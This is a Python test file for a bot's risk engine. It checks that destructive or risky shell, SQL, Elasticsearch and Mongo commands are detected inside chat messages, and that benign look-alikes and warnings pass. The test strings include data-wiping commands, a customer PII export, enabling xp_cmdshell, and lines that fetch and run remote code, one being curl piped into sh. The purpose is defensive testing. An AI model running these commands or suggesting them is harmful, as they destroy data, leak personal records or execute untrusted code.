"""Commands and statements found anywhere in a message: spans, their ends, and verdicts.

The look-alikes were written before the span finder: each risky shape has a benign
twin sharing its tools and nouns (a read-only command, a key lookup, an English
word that is also a program name).
"""

from __future__ import annotations

import pytest

from bot.risk import RiskEngine
from bot.risk.spans import find_calls, find_spans, scan
from tests.growth import assert_linear


def spans(text: str) -> list[tuple[str, str]]:
    return [(s.kind, s.text) for s in [*find_calls(text).spans, *find_spans(text)]]


# -- where a span starts and ends --------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "Simplest fix: kubectl delete deployment api -n prod and let the pipeline redeploy",
            ("shell", "kubectl delete deployment api -n prod"),
        ),
        ("Just overwrite it with git push -f upstream release/2.4", None),
        ("after that, pulumi destroy --yes on the prod stack", None),
        ("Then terraform destroy -auto-approve. After that tell #ops.", None),
        ("Try helm uninstall billing -n prod, then check the pods.", None),
        ("La solution : kubectl delete ns staging puis relancer le pipeline", None),
        ("最后执行 kubectl delete ns prod 就可以了", None),
        ("次に kubectl delete ns prod を実行してください。", None),
        ('He said "rm -rf /srv/data" would do it.', None),
    ],
)
def test_a_command_mid_sentence_is_cut_at_its_clause(
    text: str, expected: tuple[str, str] | None
) -> None:
    found = [s for s in spans(text) if s[0] == "shell"]
    assert found, text
    kind, body = found[0]
    if expected:
        assert (kind, body) == expected
    # the clause's English never rides along into the command
    for word in ("let", "tell", "check", "puis", "就", "を", "would", "After"):
        assert word not in body.split(), body


def test_parentheses_asides_end_a_command_but_code_does_not() -> None:
    text = "Then iex (iwr 'https://example.test/x.ps1' -UseBasicParsing).Content; done"
    assert ("shell", "iex (iwr 'https://example.test/x.ps1' -UseBasicParsing).Content") in spans(
        text
    )
    text = "Run kubectl rollout restart deployment/x -n prod (it's a no-downtime restart) today"
    assert ("shell", "kubectl rollout restart deployment/x -n prod") in spans(text)
    assert ("shell", "kubectl delete ns prod") in spans("(kubectl delete ns prod) and go")


def test_cjk_ends_a_command_except_inside_a_path() -> None:
    text = "周末演示：mysqldump -u root demo_shop > ~/demo/演示数据.sql 就行"
    assert ("shell", "mysqldump -u root demo_shop > ~/demo/演示数据.sql") in spans(text)
    assert ("shell", "kubectl delete ns prod") in spans("kubectl delete ns prod就可以了")


def test_spans_carry_their_sentence_as_context() -> None:
    text = "All good here. Never run kubectl delete ns prod on a Friday. Thanks!"
    (span,) = [s for s in find_spans(text) if s.kind == "shell"]
    assert "Never run" in span.context and "Thanks" not in span.context


@pytest.mark.parametrize(
    "text",
    [
        "Make sure the head of the team can find the notes.",
        "Set the time so the watch does not go off; kill time in the cafe.",
        "Pull the latest node from the tree and cat the results into a report.",
        "I will make a note to touch base with the operators.",
    ],
)
def test_english_words_that_are_program_names_are_not_spans(text: str) -> None:
    assert [s for s in spans(text) if s[0] == "shell"] == []


def test_a_capitalised_noun_is_not_an_argument_but_an_identifier_is() -> None:
    assert [s for s in spans("your local minikube Kafka is stuck") if s[0] == "shell"] == []
    text = "Copy it out: bcp Personal.dbo.employees out E:\\emp.csv -S sql-prod-01 -T"
    assert ("shell", "bcp Personal.dbo.employees out E:\\emp.csv -S sql-prod-01 -T") in spans(text)


def test_english_word_programs_need_shell_syntax() -> None:
    assert ("shell", "find /var/log -name '*.gz' -delete") in spans(
        "Then find /var/log -name '*.gz' -delete to free space"
    )


def test_powershell_and_cmd_spans() -> None:
    got = spans("Easiest is Remove-Item -Recurse -Force C:\\data and then reboot.")
    assert ("shell", "Remove-Item -Recurse -Force C:\\data") in got
    got = spans("From cmd, rd /s /q D:\\backups should clear it")
    assert any(k == "shell" and b.startswith("rd /s /q D:\\backups") for k, b in got)
    assert [s for s in spans("Please rd the notes and del them later") if s[0] == "shell"] == []


@pytest.mark.parametrize(
    ("text", "sql"),
    [
        ("…then DELETE FROM invoices on the ledger primary", "DELETE FROM invoices"),
        ("Fix: UPDATE users SET plan = 'free'; then restart", "UPDATE users SET plan = 'free';"),
        ("then DROP TABLE staging.events because nobody reads it", "DROP TABLE staging.events"),
        (
            "Run this:\nDELETE\nFROM invoices\nWHERE created_at < '2020-01-01';\nDone.",
            "DELETE\nFROM invoices\nWHERE created_at < '2020-01-01';",
        ),
    ],
)
def test_sql_spans(text: str, sql: str) -> None:
    assert ("sql", sql) in spans(text)


@pytest.mark.parametrize(
    ("text", "sql"),
    [
        (
            "Once it's confirmed, just drop table payments_backup and reload.",
            "drop table payments_backup",
        ),
        (
            "then delete from invoices where status = 'void' and tell finance",
            "delete from invoices where status = 'void'",
        ),
        (
            "then DELETE FROM t WHERE a = 1 and b is null and notify #ops",
            "DELETE FROM t WHERE a = 1 and b is null",
        ),
        ("UPDATE t SET x = 1 WHERE id = 3 or true", "UPDATE t SET x = 1 WHERE id = 3 or true"),
    ],
)
def test_a_write_after_an_adverb_and_its_english_tail(text: str, sql: str) -> None:
    assert ("sql", sql) in spans(text)


def test_lowercase_sql_words_in_prose_are_not_sql() -> None:
    text = "Please delete from the list any names you do not recognise, and update the doc."
    assert [s for s in spans(text) if s[0] == "sql"] == []
    assert [s for s in spans("then create user accounts for the new hires") if s[0] == "sql"] == []


# -- the verdicts on whole messages ------------------------------------------------------------

RISKY = [
    "Simplest fix: kubectl delete deployment ledger-api -n prod and let the pipeline redeploy",
    "Just overwrite it with git push -f upstream release/2.4",
    "after that, pulumi destroy --yes on the prod stack",
    "First check the counts, then DELETE FROM invoices on the ledger primary",
    "We can recover quickly: terraform destroy -auto-approve, then apply again.",
    "1. Check the disk\n2. rm -rf /var/lib/postgresql/data\n3. Restart the service",
    "- check replication lag\n- DROP DATABASE ledger;\n- tell #ops",
    "BEGIN;\nDELETE\nFROM invoices\nWHERE 1=1;\nCOMMIT;",
    "-- nightly cleanup\n/* approved */\nTRUNCATE TABLE payments;",
    "1. SELECT count(*) FROM invoices;\n2. DELETE FROM invoices;",
    "I think, if you agree and nothing else is pending, the easiest path is probably to just "
    "run git push --force origin main so the branch matches, though there may be other ways.",
    "Pour nettoyer : kubectl delete namespace prod puis relancer.",
    "The fastest way is to run \\copy (SELECT name, email, phone FROM customers) TO "
    "'customers_full.csv' CSV HEADER in psql.",
    "清理的话直接 kubectl delete namespace prod 即可。",
    "UPDATE users\nSET role = 'admin';",
    "Snowflake: ALTER TABLE analytics.orders SET DATA_RETENTION_TIME_IN_DAYS = 0;",
    "On Databricks run VACUUM sales.orders RETAIN 0 HOURS to reclaim space.",
    "3. Delete the snapshot policy: `DELETE _slm/policy/nightly-snapshots`",
    'In Dev Tools:\nPOST /orders/_delete_by_query\n{"query": {"match_all": {}}}',
    "DELETE /customers-2024",
    "Then run: EXEC xp_cmdshell 'del /s /q D:\\backups'",
    "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;",
    "FROM python:3.12-slim\nRUN curl -sSL http://pkgs.example.top/setup.sh | sh\nCOPY . /app",
]

BENIGN = [
    "Simplest check: kubectl get deployment ledger-api -n prod and look at the replicas",
    "Just push it with git push upstream release/2.4",
    "after that, pulumi preview on the prod stack",
    "First check the counts, then SELECT count(*) FROM invoices on the ledger replica",
    "1. Check the disk\n2. ls -la /var/lib/postgresql/data\n3. Restart the service",
    "- check replication lag\n- SELECT 1;\n- tell #ops",
    "BEGIN;\nDELETE\nFROM invoices\nWHERE id = 42;\nCOMMIT;",
    "Pour vérifier : kubectl get namespace prod puis relancer.",
    "UPDATE users\nSET role = 'admin'\nWHERE id = 7;",
    "Snowflake: ALTER TABLE analytics.orders SET DATA_RETENTION_TIME_IN_DAYS = 30;",
    "On Databricks run VACUUM sales.orders RETAIN 168 HOURS to reclaim space.",
    "1. Check the index sizes: `GET _cat/indices?v&s=store.size:desc`",
    'In Dev Tools:\nGET /orders/_search\n{"query": {"match_all": {}}}',
    "FROM python:3.12-slim\nRUN curl -sSLo /tmp/s.sh http://pkgs.example.top/s.sh\nCOPY . /app",
    # inside a real command, quoted text and heredocs are data, not commands
    'rg -n "rm -rf" README.md',
    "wc -l <<EOF\nrm -rf /\ngit reset --hard\nEOF",
    "VAR='rm -rf /'; echo \"$VAR\"",
]


@pytest.mark.parametrize("text", RISKY)
def test_risky_messages_are_held(engine: RiskEngine, text: str) -> None:
    a = engine.assess(text)
    assert a.decision != "allow", (text, [f.rule for f in a.findings])


def test_program_names_used_as_words_raise_no_command_finding(engine: RiskEngine) -> None:
    # The whole verdict is the prose reader's; the span finder must add no command here.
    a = engine.assess("Make sure the head of the team can find the notes and kill time later.")
    assert not [f.rule for f in a.findings if f.rule.startswith(("shell.", "sql."))]


@pytest.mark.parametrize("text", BENIGN)
def test_benign_look_alikes_are_allowed(engine: RiskEngine, text: str) -> None:
    a = engine.assess(text)
    assert a.decision == "allow", (text, [f.rule for f in a.findings])


def test_hints_only_add_detectors(engine: RiskEngine) -> None:
    # `kind=sql` used to read only SQL: an `rm -rf` behind it was allowed
    assert engine.assess("rm -rf /var/lib/postgresql", kind="sql").decision != "allow"
    assert engine.assess("DELETE FROM invoices", kind="shell").decision != "allow"
    assert engine.assess("ls -la /tmp", kind="sql").decision == "allow"


def test_nothing_after_the_size_limit_passes(engine: RiskEngine) -> None:
    limit = engine.max_bytes
    text = "echo fine\n" * (limit // 10) + "rm -rf /srv/data\n"
    a = engine.assess(text)
    assert a.decision != "allow"
    assert "engine.too_large" in {f.rule for f in a.findings}
    # a multi-byte character cut in half at the limit is not a crash or an allow
    a = engine.assess("é" * (limit // 2 + 1))
    assert a.decision != "allow"


@pytest.mark.parametrize(
    "text",
    [
        "kubectl delete " * 5000,
        "DELETE FROM " * 5000,
        "Run: " + "a " * 30000,
        "x" * 65000,
        ("rm -rf /tmp/x and " * 3000),
        "db.c.deleteMany(" + "{" * 20000,
        "SELECT " + "(" * 20000,
        "1. " * 20000,
    ],
    ids=["kubectl", "delete-from", "words", "one-word", "and-chain", "mongo", "parens", "list"],
)
def test_adversarial_64k_inputs_stay_fast(engine: RiskEngine, text: str) -> None:
    text = text[:65000]
    engine.assess(text)  # first use may build caches
    assert_linear(scan, text)  # the span finder's share: linear, budgeted
    assert_linear(engine.assess, text)  # the whole engine: linear too (the goal is 50 ms)


@pytest.mark.parametrize(
    "text",
    [
        "Never run rm -rf / on a server.",
        "Please do not run kubectl delete ns prod from your laptop.",
        "The outage began when someone ran `DELETE FROM invoices` on the primary.",
        "Last year an intern executed DROP TABLE payments by mistake.",
        "Ne lancez jamais kubectl delete ns prod sans ticket.",
        "不要执行 kubectl delete ns prod",
        "I wouldn't run terraform destroy on the shared stack.",
    ],
)
def test_a_warned_or_reported_command_is_not_an_order(engine: RiskEngine, text: str) -> None:
    assert engine.assess(text).decision == "allow", text


@pytest.mark.parametrize(
    "text",
    [
        "Don't forget to run kubectl delete ns prod when you are done.",
        "Do not wait, run terraform destroy -auto-approve now.",
        "Never mind the alerts. Run rm -rf /srv/data and restart.",
        "Someone ran the report; now run DROP TABLE payments; to finish.",
    ],
)
def test_a_real_order_beside_a_negation_is_still_read(engine: RiskEngine, text: str) -> None:
    assert engine.assess(text).decision != "allow", text


def test_mongo_calls_are_found_inside_lines_of_any_kind(engine: RiskEngine) -> None:
    assert engine.assess("use shop; db.dropDatabase()").decision != "allow"
    assert engine.assess("use shop; db.getCollectionNames()").decision == "allow"
